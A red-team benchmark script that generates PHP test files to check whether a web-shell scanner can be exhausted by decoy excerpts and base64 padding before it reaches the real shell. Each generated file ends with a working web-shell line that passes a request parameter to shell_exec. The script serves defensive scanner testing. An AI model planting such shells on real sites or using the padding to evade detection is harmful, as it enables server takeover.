// S23R-16: decoy excerpts that spend the excerpts' budget (readings of many definitions, or payloads they decode) before the shell's.
// node bench/redteam/rt23-excerpt-budget.mjs [scanner.js]
const path = process.argv[2] ?? new URL('../../packages/host/dist/scan/scanner.js', import.meta.url).pathname;
const { createScanner } = await import(path);
const { longFile } = await import(new URL('../../packages/host/dist/scan/scan-test-kit.js', import.meta.url).pathname);
const s = createScanner({});
const filler = longFile(5).replace('<?php\n', '').replace(/namespace [^;]*;/, '');
const decoys = Array.from({ length: 16 }, (_, i) => `function pad_${i}() { return shell_exec("uptime"); }`).join('\n');
const calls = Array.from({ length: 16 }, (_, i) => `pad_${i}()`).join(', ');
const b64 = Buffer.from('just some harmless text that decodes to words '.repeat(3)).toString('base64');
export const files = {
  readings: (n) => `<?php\n${decoys}\n$fmt = function ($c) { return shell_exec($c); };\n` + Array.from({ length: n }, () => `echo ${calls}, htmlspecialchars($_GET["q"] ?? "");\n${filler}`).join('') + 'echo $fmt($_GET["x"]);\n',
  payloads: (n) => `<?php\n$fmt = function ($c) { return shell_exec($c); };\n` + Array.from({ length: n }, (_, i) => `$t${i} = base64_decode('${b64}'); $u${i} = base64_decode('${b64}'); $v${i} = base64_decode('${b64}'); echo htmlspecialchars($t${i} . $u${i} . $v${i} . $_GET["q"]); call_user_func('strtoupper', $_GET["q"]);\n${filler}`).join('') + 'echo $fmt($_GET["x"]);\n',
  both: (n) => `<?php\n${decoys}\n$fmt = function ($c) { return shell_exec($c); };\n` + Array.from({ length: n }, (_, i) => `$t${i} = base64_decode('${b64}'); $u${i} = base64_decode('${b64}'); $v${i} = base64_decode('${b64}'); echo ${calls}, htmlspecialchars($t${i} . $u${i} . $v${i} . $_GET["q"]);\n${filler}`).join('') + 'echo $fmt($_GET["x"]);\n',
};
if (import.meta.url === `file://${process.argv[1]}`) {
  for (const [name, make] of Object.entries(files)) {
    for (const n of (process.env.N ?? '8,64,100,128').split(',').map(Number)) {
      const src = make(n);
      const t = performance.now();
      const r = await s.scanBuffer(Buffer.from(src, 'latin1'), '/www/shop/util.php');
      console.log(`${name} x${n} (${(src.length / 1024).toFixed(0)} KiB): ${r.verdict} ${(performance.now() - t).toFixed(0)} ms ${[...new Set(r.findings.map((f) => f.rule))].join(',')}`);
    }
  }
}
